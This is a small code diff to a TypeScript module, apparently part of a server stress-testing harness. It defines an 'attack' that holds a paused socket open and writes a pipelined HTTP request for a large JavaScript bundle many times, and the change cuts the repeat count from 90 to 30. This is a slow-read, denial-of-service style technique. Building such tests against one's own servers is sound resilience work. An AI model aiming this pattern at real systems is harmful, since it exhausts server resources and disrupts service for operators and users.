@@ -6,6 +6,6 @@ const DOWNLOAD = 'GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nhost: localhost\r\n
 const attack: Attack = (target, signal) =>
   keepOpen(target, signal, 60, (socket) => {
     socket.pause();
-    socket.write(DOWNLOAD.repeat(90));
+    socket.write(DOWNLOAD.repeat(30));
   });
 export default attack;
